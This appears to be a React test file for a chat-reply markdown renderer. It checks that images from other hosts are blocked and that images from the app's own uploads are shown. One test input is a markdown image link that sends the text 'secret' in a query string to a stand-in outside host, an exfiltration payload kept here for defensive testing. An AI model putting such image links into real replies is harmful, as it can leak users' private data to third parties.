import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { MarkdownReply } from './markdown-reply';

describe('MarkdownReply', () => {
  it('never loads an image from another host, so a reply cannot send text elsewhere', () => {
    const { container } = render(
      <MarkdownReply text="Here: ![x](https://elsewhere.example/p.png?d=secret) and more" />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('[image: x]')).toBeInTheDocument();
  });

  it('shows images of our own uploads', () => {
    render(<MarkdownReply text="![your photo](/api/uploads/abc123)" />);
    expect(screen.getByRole('img', { name: 'your photo' })).toHaveAttribute(
      'src',
      '/api/uploads/abc123',
    );
  });
});
